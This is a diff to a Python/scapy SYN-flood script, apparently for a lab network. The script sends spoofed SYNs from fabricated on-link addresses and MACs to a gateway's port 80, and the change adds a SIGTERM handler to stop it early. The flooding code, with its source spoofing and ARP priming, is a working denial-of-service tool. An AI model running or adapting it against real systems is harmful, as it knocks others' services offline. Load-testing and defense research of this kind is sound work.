@@ -2,7 +2,7 @@
 """Runs in the lab namespace: COUNT SYNs to 198.18.0.2:80 from spoofed on-link sources, bounded by
 SECONDS; prints how many were sent and at what rate.
 
-usage: syn_flood.py COUNT SECONDS [--max-rate]
+usage: syn_flood.py COUNT SECONDS [--max-rate]     (SIGTERM ends it early, counts printed)
 
 The sources are 198.18.0.128-254 on the gateway's /24, each with a made-up MAC that first asks
 the gateway for its address (an ARP request addressed to it, which it learns), so the gateway's
@@ -10,6 +10,7 @@ SYN-ACKs really go out on the link, as they would to an attacker's spoofed neigh
 kernel drops them (not its MAC). --max-rate sends as fast as this process can; otherwise the
 rate is bounded so that the flood shares two cores with the clients.
 """
+import signal
 import socket
 import struct
 import sys
@@ -18,6 +19,15 @@ import time
 from scapy.all import ARP, IP, TCP, Ether, conf, get_if_hwaddr, getmacbyip
 
 conf.verb = 0
+stop = False
+
+
+def on_term(signum, frame):
+    global stop
+    stop = True
+
+
+signal.signal(signal.SIGTERM, on_term)
 count, seconds = int(sys.argv[1]), float(sys.argv[2])
 max_rate = "--max-rate" in sys.argv[3:]
 gw_mac = getmacbyip("198.18.0.2")
@@ -37,7 +47,7 @@ for i in range(512):
                         TCP(sport=1024 + i, dport=80, flags="S", seq=i * 7919)))
 t0 = time.time()
 sent = 0
-while sent < count and time.time() - t0 < seconds:
+while sent < count and not stop and time.time() - t0 < seconds:
     base = frames[sent % len(frames)]
     f = bytearray(base)
     # vary the source port so every SYN is a new half-open connection
